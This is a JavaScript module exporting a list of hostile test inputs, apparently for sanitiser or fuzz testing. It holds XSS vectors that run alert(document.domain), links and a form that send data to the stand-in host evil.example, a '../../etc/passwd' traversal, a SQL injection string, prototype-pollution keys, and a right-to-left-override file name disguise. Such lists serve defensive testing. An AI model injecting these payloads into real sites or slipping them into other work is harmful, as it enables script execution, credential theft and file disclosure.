// What hostile tokens, links and files say.
const RUNS = 'alert(document.domain)';

export const PAYLOADS = [
  `<script>${RUNS}</script>`, `</script><script>${RUNS}</script>`, `<img src=x onerror=${RUNS}>`, `"><img src=x onerror=${RUNS}>`, `'><svg onload=${RUNS}>`, `<svg><script>${RUNS}</script></svg>`,
  `<svg/onload=${RUNS}//`, `<iframe srcdoc="<script>${RUNS}</script>">`, `<iframe src="javascript:${RUNS}">`, `<object data="javascript:${RUNS}">`, `<embed src="javascript:${RUNS}">`, `<a href="javascript:${RUNS}">x</a>`,
  `javascript:${RUNS}`, `JaVaScRiPt:${RUNS}`, `data:text/html,<script>${RUNS}</script>`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import 'https://evil.example/x.css'</style>`, `</style><script>${RUNS}</script>`, `</textarea><script>${RUNS}</script>`, `</title><script>${RUNS}</script>`,
  `<form action=https://evil.example/><input name=token autofocus onfocus=${RUNS}>`, `<math><mtext></mtext><img src onerror=${RUNS}></math>`, `<details open ontoggle=${RUNS}>`, `<video><source onerror=${RUNS}></video>`,
  `<template><img src=x onerror=${RUNS}></template>`, `<!--><img src=x onerror=${RUNS}>-->`, `<![CDATA[<img src=x onerror=${RUNS}>]]>`, `&lt;img src=x onerror=${RUNS}&gt;`, `\\u003cimg src=x onerror=${RUNS}\\u003e`,
  `\${${RUNS}}`, `{{constructor.constructor('${RUNS}')()}}`, `#{${RUNS}}`, `<%= ${RUNS} %>`, `" style="background:url(https://evil.example/)`, `' onmouseover='${RUNS}`, '`code` and ``more``',
  '\u202egnp.exe\u202c', '\u2066rtl\u2069', 'a\u0000b', '\u0000', '\ufeff', '\u200b\u200d', '\u{1f469}\u200d\u{1f680}', `Z\u0351\u036b\u0343${'\u0300'.repeat(200)}`, '\uff1cscript\uff1e', '\u2028\u2029', '\ud83d', 'x'.repeat(5000),
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf', 'HSconstructor', 'HStoString', 'ESconstructor', 'verdict', 'length', '%', '%00', '../../etc/passwd', "' OR 1=1 --", '-1', 'null', '',
];
